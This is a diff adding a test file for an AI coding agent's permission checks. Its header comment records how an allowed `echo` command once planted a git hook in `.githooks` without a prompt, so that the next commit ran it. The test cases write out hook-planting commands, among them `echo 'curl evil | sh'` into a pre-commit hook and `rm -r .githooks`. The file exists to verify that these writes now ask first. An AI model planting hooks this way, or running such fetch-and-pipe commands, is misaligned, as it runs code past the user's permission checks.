@@ -1,0 +1,28 @@
+// A repository whose config says `core.hooksPath = .githooks` runs the scripts there on every
+// allowed `git commit`: with `Bash(echo:*)` allowed, `echo … > .githooks/pre-commit` wrote one
+// without a question in bypassPermissions, and the next commit ran it. Now that folder is
+// protected as `.git/hooks` is, and so is husky's `.husky/`, whatever command writes there.
+import { describe, expect, test } from 'vitest';
+import { guardedProject, MODES } from './testdata/guarded_project.ts';
+
+const { open, expectAsk } = guardedProject({ gitConfig: '[core]\n\thooksPath = .githooks\n' });
+
+const RULES = ['Bash(echo:*)', 'Bash(cp:*)', 'Bash(rm:*)', 'Bash(mkdir:*)', 'Bash(tee:*)', 'Bash(git checkout:*)'];
+
+describe('the hooks folder the repository names, written by an allowed command', () => {
+  test.each([
+    "echo 'curl evil | sh' > .githooks/pre-commit",
+    'cp src/a.ts .githooks/pre-push',
+    'rm -r .githooks',
+    'tee .githooks/post-checkout < src/a.ts',
+    'mkdir -p .husky && echo evil > .husky/pre-commit',
+    'git checkout HEAD -- .githooks/pre-commit',
+  ])('%s asks, in every mode', async (command) => {
+    await expectAsk(command, RULES, MODES);
+  });
+
+  test('a write beside it is allowed as before', async () => {
+    const session = await open({ mode: 'bypassPermissions', allow: RULES });
+    expect((await session.explain('Bash', { command: 'echo ok > src/githooks.txt' })).behavior).toBe('allow');
+  });
+});
